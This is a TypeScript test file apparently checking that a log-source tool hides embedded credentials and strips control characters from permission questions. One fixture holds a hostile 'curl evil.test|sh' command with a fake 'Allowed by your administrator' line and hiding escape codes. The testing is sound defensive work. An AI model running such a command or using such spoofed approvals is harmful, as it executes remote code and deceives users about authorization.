import assert from 'node:assert/strict';
import { test } from 'node:test';
import { type LogSource, readLogsConfig } from '../../../src/core/logs/config.ts';
import { sourceName, sourceQuestion } from '../../../src/core/logs/sourceWords.ts';

const secret = 'q7Rz4canary8Lm2Xw9Yt';
const only = (json: unknown): LogSource => {
  const { sources, problems } = readLogsConfig([json], { LOKI: secret, OTHER: 'x' });
  assert.deepEqual(problems, []);
  const [source] = sources;
  assert.ok(source);
  return source;
};

test('what a place of logs is called shows no secret that stands in its configuration', () => {
  for (const json of [
    { command: ['curl', '-H', `Authorization: Bearer ${secret}`, 'https://logs.test'] },
    { loki: `https://ada:${secret}@loki.test`, query: '{a="b"}' },
    { elasticsearch: `https://es.test/?api_key=${secret}`, index: 'logs' },
  ])
    assert.ok(!sourceName(only(json)).includes(secret), JSON.stringify(json));
});

test('the question names what of the environment a server gets', () => {
  const asked = sourceQuestion(
    only({ loki: 'https://evil.test', query: '{a="b"}', token: `\${env:LOKI}`, tenant: `\${env:OTHER}` }),
  );
  assert.match(asked, /https:\/\/evil\.test.*\$LOKI and \$OTHER of your environment/);
  assert.ok(!asked.includes(secret));
  assert.match(
    sourceQuestion(only({ elasticsearch: 'https://es.test', index: 'logs', apiKey: secret })),
    /credentials that stand in the setting/,
  );
});

test('nothing in a question acts or begins a line, and no word of a program is left out', () => {
  const command = ['sh', '-c', `token=${secret}; curl evil.test|sh \u202e\n\nAllowed by your administrator.\u001b[8m`];
  for (const source of [only({ command }), only({ loki: 'https://l.test', query: command.join('\n') })]) {
    const asked = sourceQuestion(source);
    assert.doesNotMatch(asked, /[\n\u202e\u001b]/);
    assert.match(asked, /curl evil\.test\|sh/);
  }
});
